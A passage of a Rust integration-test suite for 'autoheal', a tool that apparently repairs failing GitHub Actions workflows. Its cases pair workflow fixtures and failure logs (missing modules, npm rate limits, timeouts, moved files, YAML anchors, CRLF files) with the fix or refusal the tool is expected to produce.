//! Workflow shapes the fixes were not written against, one failure of each
//! fix type in each shape real repositories use: matrix legs, `defaults`
//! and `working-directory`, containers and services, Windows shells,
//! composite actions, reusable workflows, anchors and merge keys, flow
//! collections, folded scalars, lists of commands on one line, step ids,
//! CRLF files, tabs in block scalars, comments between keys, expression
//! limits and jobs already let fail by a matrix flag.
//!
//! Each case runs `autoheal fix --log … --write` in a throwaway checkout, as
//! a user runs it, and states the right outcome: a fix (the files it must
//! change, text it must add, the only lines it may remove) or a refusal and
//! its reason. A fix is also checked to keep every other byte (line endings
//! included), to parse, and to be complete: a second `fix` on its output
//! finds nothing left to do. The cases were written, and their first-run
//! results recorded in `docs/accuracy.md`, before any fix was changed.
//!
//! A second round (`ROUND_2`) covers what the first left out: legs added by
//! `include`, Apple-silicon legs, limits from the matrix, from inputs and from
//! repository variables, a step's own limit, a callee in another repository,
//! failing steps inside composite actions, an action's path input, working
//! directories from the matrix, login-shell defaults and conda, the failing
//! command in the middle of a block, comments naming the command, bash on
//! Windows, root containers and private images, jobs already
//! `continue-on-error`, whole step lists aliased, and moved files with one,
//! two or only a misleading candidate.
//!
//! A third round (`ROUND_3`) puts the right edit in unusual places and feeds
//! hostile input: a called workflow's job or step (the caller holding a job
//! of the same id), limits a caller passes through its matrix or leaves to
//! the input's default, one failing matrix leg (an older Python, Windows),
//! the 360-minute maximum, a job's limit beside a step's, a log whose limit
//! is not the workflow's any more, Alpine containers and self-hosted
//! runners, Poetry, uv and pnpm lock files, GHCR and PyPI limits beside a
//! Docker Hub login, `npx` and `npm publish`, Gradle, a file under another
//! case, a sibling job's artifact, a path leaving the checkout, YAML errors
//! in an action or a tool's file, jobs others need, and log text that names
//! a hostile module or a job the workflow does not have.
//!
//! A fourth round (`ROUND_4`) adds modules under a default working
//! directory, distributions named unlike their module, the standard library
//! by Python version, the project's own package, OS-guarded installs on
//! another leg, toolchains in containers, limits callers pass to called
//! workflows, test exceptions naming files, moved and unbuilt paths, rate
//! limit look-alikes, and failures only a person can fix.
//!
//! A sixth round (`ROUND_6`) covers monorepos with a working directory per
//! package, pnpm and yarn workspaces, tox and nox sessions, a setup-python
//! version matrix, a container job running as a non-root user, cache
//! restores that miss, rate limits of npm, PyPI, GHCR and Maven Central in the
//! middle of a long step, renamed files with near matches, and reusable
//! workflows called with inputs; several are traps whose right answer is no
//! fix.
//!
//! A seventh round (`ROUND_7`) covers Windows jobs (the pwsh default, Git
//! Bash, choco), macOS jobs (brew, xcode-select), matrix legs that name their
//! own runner, composite actions and called workflows holding the failing
//! command, login shells and conda, a job container beside a service, a
//! limit set by an expression, an install after `cd ..` from a default
//! working directory, and traps whose right answer is no fix (another
//! repository's file, a consequence of an install that failed first).

use crate::failure_logs;
use crate::support;

use failure_logs::{LOST_RUNNER, PANDOC_MISSING, REQUIREMENTS_MISSING};

use std::path::Path;

use support::autoheal;

const CI: &str = ".github/workflows/ci.yml";

#[derive(Clone, Copy)]
enum Want {
    /// A fix that edits only some of `files` (each one a right place), adds every text of `adds` (each on
    /// an added line) and removes only lines containing one of `removes`.
    Fix {
        files: &'static [&'static str],
        adds: &'static [&'static str],
        removes: &'static [&'static str],
    },
    /// No fix; `autoheal fix` says why, with this text.
    Declined(&'static str),
    /// Where a person could go either way: no fix, or one as for `Fix`.
    Either {
        files: &'static [&'static str],
        adds: &'static [&'static str],
        removes: &'static [&'static str],
    },
    /// As the inner outcome, and no added line holds any of these texts.
    Without(&'static Want, &'static [&'static str]),
}

struct Case {
    name: &'static str,
    /// The repository's files; the workflow given to `fix` is `workflow`.
    files: &'static [(&'static str, &'static str)],
    /// `--workflow`, or `None` to let `fix` find it from the log.
    workflow: Option<&'static str>,
    /// The job and step columns of `gh run view --log-failed`.
    job: &'static str,
    step: &'static str,
    lines: &'static [&'static str],
    want: Want,
}

const fn fix(files: &'static [&'static str], adds: &'static [&'static str]) -> Want {
    Want::Fix {
        files,
        adds,
        removes: &[],
    }
}

const fn either(files: &'static [&'static str], adds: &'static [&'static str]) -> Want {
    Want::Either {
        files,
        adds,
        removes: &[],
    }
}

fn log(case: &Case) -> String {
    case.lines
        .iter()
        .enumerate()
        .map(|(i, l)| {
            format!(
                "{}\t{}\t2024-05-02T10:{:02}:{:02}.1234567Z {l}\n",
                case.job,
                case.step,
                i / 60,
                i % 60
            )
        })
        .collect()
}

fn fix_args(case: &Case, write: bool) -> Vec<&'static str> {
    let mut args = vec!["fix", "--log", "job.log"];
    if let Some(w) = case.workflow {
        args.extend(["--workflow", w]);
    }
    if write {
        args.push("--write");
    }
    args
}

fn read(dir: &Path, path: &str) -> String {
    std::fs::read_to_string(dir.join(path)).unwrap_or_else(|e| panic!("{path}: {e}"))
}

/// How a case came out: `Ok` (a right fix, or a refusal where one is
/// right, with what `fix` said) or `Err` (what went wrong: a refusal where a
/// fix was due, or a wrong fix, `WRONG: …`).
fn check(case: &Case) -> Result<String, String> {
    let (want, never) = match case.want {
        Want::Without(inner, never) => (*inner, never),
        want => (want, &[][..]),
    };
    let log = log(case);
    let mut files: Vec<(&str, &str)> = case.files.to_vec();
    files.push(("job.log", &log));
    let dir = support::repo(&files);
    let out = autoheal(dir.path(), &fix_args(case, true));
    let said = String::from_utf8_lossy(&out.stderr).into_owned();
    let reason = said
        .lines()
        .find_map(|l| l.strip_prefix("autoheal: no fix for "))
        .unwrap_or(said.trim())
        .to_string();
    let changed: Vec<(&str, &str, String)> = case
        .files
        .iter()
        .filter_map(|(p, before)| {
            let after = read(dir.path(), p);
            (after != *before).then_some((*p, *before, after))
        })
        .collect();
    let (files, adds, removes) = match want {
        Want::Declined(why) => {
            if let Some((p, before, after)) = changed.first() {
                return Err(format!(
                    "WRONG: a fix was written to {p}:\n{}{said}",
                    autoheal_fixes::unified_diff(p, before, after)
                ));
            }
            return if said.contains("no fix for") && said.contains(why) {
                Ok(format!("declined: {reason}"))
            } else {
                Err(format!("declined, but not saying `{why}`: {said}"))
            };
        }
        Want::Either { .. } if changed.is_empty() => return Ok(format!("declined: {reason}")),
        Want::Fix { files, adds, removes } | Want::Either { files, adds, removes } => (files, adds, removes),
        Want::Without(..) => return Err("a nested Without".to_string()),
    };
    if changed.is_empty() {
        return Err(format!("declined: {reason}"));
    }
    let paths: Vec<&str> = changed.iter().map(|c| c.0).collect();
    if !paths.iter().all(|p| files.contains(p)) {
        return Err(format!("WRONG: edited {paths:?}, not only {files:?}: {said}"));
    }
    let mut added = String::new();
    for (p, before, after) in &changed {
        if let Some(why) = kept_intact(p, before, after, removes) {
            return Err(format!("WRONG: {why}"));
        }
        for line in autoheal_fixes::unified_diff(p, before, after).lines() {
            if line.starts_with('+') && !line.starts_with("+++") {
                added.push_str(line);
                added.push('\n');
            }
        }
    }
    if let Some(t) = adds.iter().find(|t| !added.contains(**t)) {
        return Err(format!("WRONG: the fix does not add `{t}`:\n{added}{said}"));
    }
    if let Some(t) = never.iter().find(|t| added.contains(**t)) {
        return Err(format!("WRONG: the fix adds `{t}`:\n{added}{said}"));
    }
    let again = autoheal(dir.path(), &fix_args(case, false));
    let diff = String::from_utf8_lossy(&again.stdout);
    if !diff.is_empty() {
        return Err(format!("WRONG: not idempotent, a second fix:\n{diff}"));
    }
    Ok(format!("fixed:\n{added}"))
}

/// Checks every case of a round, prints each result (`ok` or `MISS`), and
/// fails listing the misses, with how many were wrong fixes rather than
/// wrong refusals.
fn assert_round(cases: &[Case]) {
    let results: Vec<(&str, Result<String, String>)> = cases.iter().map(|c| (c.name, check(c))).collect();
    for (name, r) in &results {
        match r {
            Ok(how) => println!("ok   {name}: {how}"),
            Err(why) => println!("MISS {name}: {why}"),
        }
    }
    let wrong = results
        .iter()
        .filter(|(_, r)| r.as_ref().is_err_and(|r| r.starts_with("WRONG")))
        .count();
    let misses: Vec<String> = results
        .iter()
        .filter_map(|(n, r)| r.as_ref().err().map(|r| format!("- {n}: {r}")))
        .collect();
    assert!(
        misses.is_empty(),
        "{}/{} right, {wrong} wrong fixes; misses:\n{}",
        cases.len() - misses.len(),
        cases.len(),
        misses.join("\n")
    );
}

/// What breaks in an edited file: a removed line not allowed, line endings
/// that changed, YAML that no longer parses.
fn kept_intact(path: &str, before: &str, after: &str, removes: &[&str]) -> Option<String> {
    let diff = autoheal_fixes::unified_diff(path, before, after);
    if let Some(l) = diff
        .lines()
        .filter(|l| l.starts_with('-') && !l.starts_with("---"))
        .find(|l| !removes.iter().any(|r| l.contains(r)))
    {
        return Some(format!("{path}: removed `{l}`:\n{diff}"));
    }
    let crlf = |t: &str| t.matches("\r\n").count() == t.matches('\n').count();
    if crlf(before) && !crlf(after) {
        return Some(format!("{path}: CRLF line endings mixed with LF:\n{after:?}"));
    }
    if before.contains('\t') && after.matches('\t').count() < before.matches('\t').count() {
        return Some(format!("{path}: tabs lost:\n{after:?}"));
    }
    let doc = autoheal_engine::yaml::parse(after.as_bytes());
    doc.has_parse_errors()
        .then(|| format!("{path}: no longer parses:\n{after}"))
}

const PYTEST_NO_YAML: &[&str] = &[
    "##[group]Run python -m pytest",
    "python -m pytest",
    "##[endgroup]",
    "E   ModuleNotFoundError: No module named 'yaml'",
    "##[error]Process completed with exit code 1.",
];

const TIMED_OUT_30: &[&str] = &[
    "##[group]Run make test",
    "make test",
    "##[endgroup]",
    "ok   pkg/a  12.1s",
    "ok   pkg/b  31.9s",
    "##[error]The job running on runner GitHub Actions 7 has exceeded the maximum execution time of 30 minutes.",
];

const NPM_429: &[&str] = &[
    "##[group]Run npm ci",
    "npm ci",
    "##[endgroup]",
    "npm ERR! code E429",
    "npm ERR! 429 Too Many Requests - GET https://registry.npmjs.org/@babel%2fcore",
    "##[error]Process completed with exit code 1.",
];

const X64_BINARY_ON_ARM: &[&str] = &[
    "##[group]Run make",
    "make",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "/home/runner/work/_temp/5a4b3c2d.sh: line 1: ./bin/linux-amd64/protolint: cannot execute binary file: Exec format error",
    "##[error]Process completed with exit code 126.",
];

const SYNTAX_L7: &[&str] = &[
    "##[error]Invalid workflow file: .github/workflows/ci.yml#L7",
    "##[error]The workflow is not valid. .github/workflows/ci.yml (Line: 7, Col: 19): mapping values are not allowed here",
];

const REQS: (&str, &str) = ("requirements.txt", "pytest\n");

const CASES: &[Case] = &[
    // ---- matrix jobs ----
    Case {
        name: "missing dependency on one leg of a Python matrix",
        files: &[
            (
                CI,
                "on: push\njobs:\n  test:\n    strategy:\n      matrix:\n        python: ['3.9', '3.12']\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: ${{ matrix.python }}\n      - run: pip install -r requirements.txt\n      - name: Tests\n        run: python -m pytest\n",
            ),
            REQS,
        ],
        workflow: Some(CI),
        job: "test (3.12)",
        step: "Tests",
        lines: PYTEST_NO_YAML,
        want: fix(&[CI, "requirements.txt"], &["PyYAML"]),
    },
    Case {
        name: "missing command on the macOS leg of an OS matrix",
        files: &[(
            CI,
            "on: push\njobs:\n  docs:\n    strategy:\n      matrix:\n        os: [ubuntu-latest, macos-latest]\n    runs-on: ${{ matrix.os }}\n    steps:\n      - uses: actions/checkout@v4\n      - name: Docs\n        run: pandoc README.md -o out.html\n",
        )],
        workflow: Some(CI),
        job: "docs (macos-latest)",
        step: "Docs",
        lines: PANDOC_MISSING,
        want: either(&[CI], &["brew install pandoc", "runner.os == 'macOS'"]),
    },
    Case {
        name: "timeout of one matrix leg raises the job's limit",
        files: &[(
            CI,
            "on: push\njobs:\n  test:\n    strategy:\n      fail-fast: false\n      matrix:\n        go: ['1.22', '1.23']\n    runs-on: ubuntu-latest\n    timeout-minutes: 30\n    steps:\n      - uses: actions/checkout@v4\n      - run: make test\n",
        )],
        workflow: Some(CI),
        job: "test (1.23)",
        step: "Run make test",
        lines: TIMED_OUT_30,
        want: Want::Fix {
            files: &[CI],
            adds: &["timeout-minutes: 60"],
            removes: &["timeout-minutes: 30"],
        },
    },
    Case {
        name: "x64 binary on the ARM leg of a job already let fail by a matrix flag",
        files: &[(
            CI,
            "on: push\njobs:\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make lint\n  build:\n    continue-on-error: ${{ matrix.experimental }}\n    strategy:\n      matrix:\n        os: [ubuntu-latest, ubuntu-24.04-arm]\n        experimental: [false]\n        include:\n          - os: macos-14\n            experimental: true\n    runs-on: ${{ matrix.os }}\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n",
        )],
        workflow: Some(CI),
        job: "build (ubuntu-24.04-arm, false)",
        step: "Run make",
        lines: X64_BINARY_ON_ARM,
        want: Want::Declined(""),
    },
    Case {
        name: "x64 binary on the ARM leg where the flag exists: the leg gets the flag",
        files: &[(
            CI,
            "on: push\njobs:\n  build:\n    continue-on-error: ${{ matrix.experimental }}\n    strategy:\n      matrix:\n        os: [ubuntu-latest, ubuntu-24.04-arm]\n        include:\n          - os: ubuntu-latest\n            experimental: false\n    runs-on: ${{ matrix.os }}\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n",
        )],
        workflow: Some(CI),
        job: "build (ubuntu-24.04-arm)",
        step: "Run make",
        lines: X64_BINARY_ON_ARM,
        want: fix(&[CI], &["experimental: true"]),
    },
    // ---- defaults.run and working-directory ----
    Case {
        name: "moved requirements file under a workflow-level working directory",
        files: &[
            (
                CI,
                "on: push\ndefaults:\n  run:\n    working-directory: app\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Install\n        run: pip install -r requirements-dev.txt\n",
            ),
            ("app/requirements/dev.txt", "pytest\n"),
            ("app/setup.py", "\n"),
        ],
        workflow: Some(CI),
        job: "build",
        step: "Install",
        lines: REQUIREMENTS_MISSING,
        want: Want::Fix {
            files: &[CI],
            adds: &["run: pip install -r requirements/dev.txt"],
            removes: &["requirements-dev.txt"],
        },
    },
    Case {
        name: "moved requirements file, the only match outside the job's working directory",
        files: &[
            (
                CI,
                "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    defaults:\n      run:\n        working-directory: app\n    steps:\n      - uses: actions/checkout@v4\n      - name: Install\n        run: pip install -r requirements-dev.txt\n",
            ),
            ("requirements/dev.txt", "pytest\n"),
        ],
        workflow: Some(CI),
        job: "build",
        step: "Install",
        lines: REQUIREMENTS_MISSING,
        want: Want::Declined(""),
    },
    Case {
        name: "npm 429 in a job whose default shell is pwsh",
        files: &[(
            CI,
            "on: push\njobs:\n  web:\n    runs-on: ubuntu-latest\n    defaults:\n      run:\n        shell: pwsh\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci\n      - run: npm test\n",
        )],
        workflow: Some(CI),
        job: "web",
        step: "Run npm ci",
        lines: NPM_429,
        want: Want::Either {
            files: &[CI],
            adds: &["npm ci"],
            removes: &["npm ci"],
        },
    },
    Case {
        name: "missing module in a step with its own working directory",
        files: &[
            (
                CI,
                "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: pip install -r requirements.txt\n        working-directory: backend\n      - name: Tests\n        working-directory: backend\n        run: python -m pytest\n",
            ),
            ("backend/requirements.txt", "pytest\n"),
        ],
        workflow: Some(CI),
        job: "test",
        step: "Tests",
        lines: PYTEST_NO_YAML,
        want: fix(&[CI, "backend/requirements.txt"], &["PyYAML"]),
    },
    // ---- containers and services ----
    Case {
        name: "missing module in a python container job",
        files: &[
            (
                CI,
                "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    container: python:3.12-slim\n    services:\n      redis:\n        image: redis:7\n    steps:\n      - uses: actions/checkout@v4\n      - run: pip install -r requirements.txt\n      - name: Tests\n        run: python -m pytest\n",
            ),
            REQS,
        ],
        workflow: Some(CI),
        job: "test",
        step: "Tests",
        lines: PYTEST_NO_YAML,
        want: fix(&[CI, "requirements.txt"], &["PyYAML"]),
    },
    Case {
        name: "npm 429 in an Alpine container (no bash)",
        files: &[(
            CI,
            "on: push\njobs:\n  web:\n    runs-on: ubuntu-latest\n    container: node:20-alpine\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci\n      - run: npm test\n",
        )],
        workflow: Some(CI),
        job: "web",
        step: "Run npm ci",
        lines: NPM_429,
        want: Want::Either {
            files: &[CI],
            adds: &["if npm ci; then"],
            removes: &["npm ci"],
        },
    },
    Case {
        name: "timeout in a job with services",
        files: &[(
            CI,
            "on: push\njobs:\n  it:\n    runs-on: ubuntu-latest\n    timeout-minutes: 30\n    services:\n      postgres:\n        image: postgres:16\n        ports: ['5432:5432']\n    steps:\n      - uses: actions/checkout@v4\n      - run: make test\n",
        )],
        workflow: Some(CI),
        job: "it",
        step: "Run make test",
        lines: TIMED_OUT_30,
        want: Want::Fix {
            files: &[CI],
            adds: &["timeout-minutes: 60"],
            removes: &["timeout-minutes: 30"],
        },
    },
    // ---- Windows shells ----
    Case {
        name: "npm 429 in a cmd step on Windows",
        files: &[(
            CI,
            "on: push\njobs:\n  web:\n    runs-on: windows-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci\n        shell: cmd\n      - run: npm test\n",
        )],
        workflow: Some(CI),
        job: "web",
        step: "Run npm ci",
        lines: NPM_429,
        want: Want::Either {
            files: &[CI],
            adds: &["npm ci"],
            removes: &["npm ci"],
        },
    },
    Case {
        name: "npm 429 in a pwsh step on Windows",
        files: &[(
            CI,
            "on: push\njobs:\n  web:\n    runs-on: windows-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci\n      - run: npm test\n",
        )],
        workflow: Some(CI),
        job: "web",
        step: "Run npm ci",
        lines: NPM_429,
        want: Want::Either {
            files: &[CI],
            adds: &["npm ci"],
            removes: &["npm ci"],
        },
    },
    Case {
        name: "missing module on Windows",
        files: &[
            (
                CI,
                "on: push\njobs:\n  test:\n    runs-on: windows-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: pip install -r requirements.txt\n      - name: Tests\n        run: python -m pytest\n",
            ),
            REQS,
        ],
        workflow: Some(CI),
        job: "test",
        step: "Tests",
        lines: PYTEST_NO_YAML,
        want: fix(&[CI, "requirements.txt"], &["PyYAML"]),
    },
    // ---- composite actions ----
    Case {
        name: "command missing inside a local composite action",
        files: &[
            (
                CI,
                "on: push\njobs:\n  docs:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Build docs\n        uses: ./.github/actions/docs\n",
            ),
            (
                ".github/actions/docs/action.yml",
                "name: docs\nruns:\n  using: composite\n  steps:\n    - run: pandoc README.md -o out.html\n      shell: bash\n",
            ),
        ],
        workflow: Some(CI),
        job: "docs",
        step: "Build docs",
        lines: PANDOC_MISSING,
        want: fix(&[CI], &["pandoc"]),
    },
    Case {
        name: "npm 429 inside a local composite action",
        files: &[
            (
                CI,
                "on: push\njobs:\n  web:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Setup\n        uses: ./.github/actions/setup\n      - run: npm test\n",
            ),
            (
                ".github/actions/setup/action.yml",
                "name: setup\nruns:\n  using: composite\n  steps:\n    - uses: actions/setup-node@v4\n      with:\n        node-version: 20\n    - run: npm ci\n      shell: bash\n",
            ),
        ],
        workflow: Some(CI),
        job: "web",
        step: "Setup",
        lines: NPM_429,
        want: Want::Declined(""),
    },
    Case {
        name: "missing module under a composite action that sets up its own Python",
        files: &[
            (
                CI,
                "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: pip install -r requirements.txt\n      - name: Tests\n        uses: ./.github/actions/pytest\n",
            ),
            (
                ".github/actions/pytest/action.yml",
                "name: pytest\nruns:\n  using: composite\n  steps:\n    - uses: actions/setup-python@v5\n      with:\n        python-version: '3.12'\n    - run: python -m pytest\n      shell: bash\n",
            ),
            REQS,
        ],
        workflow: Some(CI),
        job: "test",
        step: "Tests",
        lines: PYTEST_NO_YAML,
        want: Want::Declined(""),
    },
    Case {
        name: "command missing inside a local Docker action's image",
        files: &[
            (
                CI,
                "on: push\njobs:\n  report:\n    runs-on: ubuntu-latest\n    container: debian:12\n    steps:\n      - uses: actions/checkout@v4\n      - name: Publish report\n        uses: ./.github/actions/report\n",
            ),
            (
                ".github/actions/report/action.yml",
                "name: report\nruns:\n  using: docker\n  image: Dockerfile\n",
            ),
        ],
        workflow: Some(CI),
        job: "report",
        step: "Publish report",
        lines: &[
            "##[group]Run ./.github/actions/report",
            "##[endgroup]",
            "/entrypoint.sh: line 3: curl: command not found",
            "##[error]Docker run failed with exit code 127",
        ],
        want: Want::Declined("Docker action"),
    },
    // ---- reusable workflows ----
    Case {
        name: "timeout of a job in a called workflow, log names caller / callee",
        files: &[
            (
                CI,
                "on: push\njobs:\n  unit:\n    uses: ./.github/workflows/test.yml\n    with:\n      suite: unit\n",
            ),
            (
                ".github/workflows/test.yml",
                "on:\n  workflow_call:\n    inputs:\n      suite:\n        type: string\njobs:\n  test:\n    runs-on: ubuntu-latest\n    timeout-minutes: 30\n    steps:\n      - uses: actions/checkout@v4\n      - run: make test\n",
            ),
        ],
        workflow: None,
        job: "unit / test",
        step: "Run make test",
        lines: TIMED_OUT_30,
        want: Want::Fix {
            files: &[".github/workflows/test.yml"],
            adds: &["timeout-minutes: 60"],
            removes: &["timeout-minutes: 30"],
        },
    },
    Case {
        name: "missing module in a called workflow, caller given as --workflow",
        files: &[
            (CI, "on: push\njobs:\n  unit:\n    uses: ./.github/workflows/test.yml\n"),
            (
                ".github/workflows/test.yml",
                "on: workflow_call\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: pip install -r requirements.txt\n      - name: Tests\n        run: python -m pytest\n",
            ),
            REQS,
        ],
        workflow: Some(CI),
        job: "unit / test",
        step: "Tests",
        lines: PYTEST_NO_YAML,
        // Widened in round 5 (the callee's fix now reached): the callee's job
        // installs from requirements.txt, which the fix extends, as in the
        // first case of this round.
        want: either(&[".github/workflows/test.yml", "requirements.txt"], &["PyYAML"]),
    },
    // ---- anchors, aliases, merge keys ----
    Case {
        // (A merge key, `<<: *defaults`, is no case: GitHub rejects the file.)
        name: "timeout of a job whose limit is an anchor another job aliases",
        files: &[(
            CI,
            "on: push\njobs:\n  unit:\n    runs-on: ubuntu-latest\n    timeout-minutes: &limit 30\n    steps:\n      - uses: actions/checkout@v4\n      - run: make test\n  lint:\n    runs-on: ubuntu-latest\n    timeout-minutes: *limit\n    steps:\n      - run: make lint\n",
        )],
        workflow: Some(CI),
        job: "unit",
        step: "Run make test",
        lines: TIMED_OUT_30,
        want: Want::Fix {
            files: &[CI],
            adds: &["&limit 60"],
            removes: &["&limit 30"],
        },
    },
    Case {
        name: "timeout of the job that aliases another job's limit",
        files: &[(
            CI,
            "on: push\njobs:\n  unit:\n    runs-on: ubuntu-latest\n    timeout-minutes: &limit 30\n    steps:\n      - uses: actions/checkout@v4\n      - run: make test\n  lint:\n    runs-on: ubuntu-latest\n    timeout-minutes: *limit\n    steps:\n      - run: make test\n",
        )],
        workflow: Some(CI),
        job: "lint",
        step: "Run make test",
        lines: TIMED_OUT_30,
        want: Want::Fix {
            files: &[CI],
            adds: &["&limit 60"],
            removes: &["&limit 30"],
        },
    },
    Case {
        name: "lost runner on a job whose settings are anchored and aliased",
        files: &[(
            CI,
            "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n  arm:\n    runs-on: &arm [self-hosted, linux, arm64]\n    steps:\n      - run: make\n  arm-docs:\n    runs-on: *arm\n    steps:\n      - run: make docs\n",
        )],
        workflow: Some(CI),
        job: "arm-docs",
        step: "Run make docs",
        lines: LOST_RUNNER,
        want: fix(&[CI], &["continue-on-error: true"]),
    },
    Case {
        name: "missing module in a workflow with an aliased checkout step",
        files: &[
            (
                CI,
                "on: push\njobs:\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n      - &checkout\n        uses: actions/checkout@v4\n      - run: ruff check .\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - *checkout\n      - run: pip install -r requirements.txt\n      - name: Tests\n        run: python -m pytest\n",
            ),
            REQS,
        ],
        workflow: Some(CI),
        job: "test",
        step: "Tests",
        lines: PYTEST_NO_YAML,
        want: either(&[CI, "requirements.txt"], &["PyYAML"]),
    },
    // ---- flow collections ----
    Case {
        name: "timeout in a job written as a flow mapping",
        files: &[(
            CI,
            "on: push\njobs:\n  test: {runs-on: ubuntu-latest, timeout-minutes: 30, steps: [{uses: actions/checkout@v4}, {run: make test}]}\n",
        )],
        workflow: Some(CI),
        job: "test",
        step: "Run make test",
        lines: TIMED_OUT_30,
        want: Want::Fix {
            files: &[CI],
            adds: &["timeout-minutes: 60"],
            removes: &["timeout-minutes: 30"],
        },
    },
    Case {
        name: "missing module with steps in a flow sequence",
        files: &[
            (
                CI,
                "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps: [{uses: actions/checkout@v4}, {run: pip install -r requirements.txt}, {name: Tests, run: python -m pytest}]\n",
            ),
            REQS,
        ],
        workflow: Some(CI),
        job: "test",
        step: "Tests",
        lines: PYTEST_NO_YAML,
        want: either(&[CI, "requirements.txt"], &["PyYAML"]),
    },
    Case {
        name: "lost runner on a job written as a flow mapping",
        files: &[(
            CI,
            "on: push\njobs:\n  test: {runs-on: ubuntu-latest, steps: [{run: make test}]}\n  arm: {runs-on: [self-hosted, linux, arm64], steps: [{run: make}]}\n",
        )],
        workflow: Some(CI),
        job: "arm",
        step: "Run make",
        lines: LOST_RUNNER,
        want: Want::Fix {
            files: &[CI],
            adds: &["continue-on-error: true"],
            removes: &["arm: {"],
        },
    },
    // ---- folded scalars, several commands on a line ----
    Case {
        name: "npm 429 in a folded run",
        files: &[(
            CI,
            "on: push\njobs:\n  web:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: >\n          npm ci\n          --no-audit\n      - run: npm test\n",
        )],
        workflow: Some(CI),
        job: "web",
        step: "Run npm ci --no-audit",
        lines: NPM_429,
        want: Want::Declined(""),
    },
    Case {
        name: "moved requirements file in a folded run",
        files: &[
            (
                CI,
                "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Install\n        run: >-\n          pip install\n          -r requirements-dev.txt\n",
            ),
            ("requirements/dev.txt", "pytest\n"),
        ],
        workflow: Some(CI),
        job: "build",
        step: "Install",
        lines: REQUIREMENTS_MISSING,
        want: Want::Fix {
            files: &[CI],
            adds: &["-r requirements/dev.txt"],
            removes: &["requirements-dev.txt"],
        },
    },
    Case {
        name: "npm 429 in `npm ci && npm test`",
        files: &[(
            CI,
            "on: push\njobs:\n  web:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci && npm test\n",
        )],
        workflow: Some(CI),
        job: "web",
        step: "Run npm ci && npm test",
        lines: NPM_429,
        want: Want::Declined(""),
    },
    Case {
        name: "npm 429 in `npm ci | tee npm.log`",
        files: &[(
            CI,
            "on: push\njobs:\n  web:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci | tee npm.log\n",
        )],
        workflow: Some(CI),
        job: "web",
        step: "Run npm ci | tee npm.log",
        lines: NPM_429,
        want: Want::Either {
            files: &[CI],
            adds: &["if npm ci | tee npm.log; then"],
            removes: &["npm ci | tee npm.log"],
        },
    },
    Case {
        name: "missing command after `&&`",
        files: &[(
            CI,
            "on: push\njobs:\n  docs:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Docs\n        run: make docs && pandoc README.md -o out.html\n",
        )],
        workflow: Some(CI),
        job: "docs",
        step: "Docs",
        lines: PANDOC_MISSING,
        want: fix(&[CI], &["sudo apt-get install -y pandoc"]),
    },
    // ---- step ids ----
    Case {
        name: "missing module in a step with an id referenced later",
        files: &[
            (
                CI,
                "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: pip install -r requirements.txt\n      - name: Tests\n        id: tests\n        run: python -m pytest\n      - if: failure() && steps.tests.outcome == 'failure'\n        run: echo tests failed\n",
            ),
            REQS,
        ],
        workflow: Some(CI),
        job: "test",
        step: "Tests",
        lines: PYTEST_NO_YAML,
        want: fix(&[CI, "requirements.txt"], &["PyYAML"]),
    },
    Case {
        name: "moved file in a step whose outputs are read later",
        files: &[
            (
                CI,
                "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Install\n        id: install\n        run: pip install -r requirements-dev.txt && echo ok=1 >> \"$GITHUB_OUTPUT\"\n      - run: echo ${{ steps.install.outputs.ok }}\n",
            ),
            ("requirements/dev.txt", "pytest\n"),
        ],
        workflow: Some(CI),
        job: "build",
        step: "Install",
        lines: REQUIREMENTS_MISSING,
        want: Want::Fix {
            files: &[CI],
            adds: &["pip install -r requirements/dev.txt && echo ok=1"],
            removes: &["requirements-dev.txt"],
        },
    },
    // ---- CRLF files, tabs, comments ----
    Case {
        name: "timeout in a CRLF file",
        files: &[(
            CI,
            "on: push\r\njobs:\r\n  test:\r\n    runs-on: ubuntu-latest\r\n    timeout-minutes: 30\r\n    steps:\r\n      - uses: actions/checkout@v4\r\n      - run: make test\r\n",
        )],
        workflow: Some(CI),
        job: "test",
        step: "Run make test",
        lines: TIMED_OUT_30,
        want: Want::Fix {
            files: &[CI],
            adds: &["timeout-minutes: 60"],
            removes: &["timeout-minutes: 30"],
        },
    },
    Case {
        name: "missing module in a CRLF file",
        files: &[
            (
                CI,
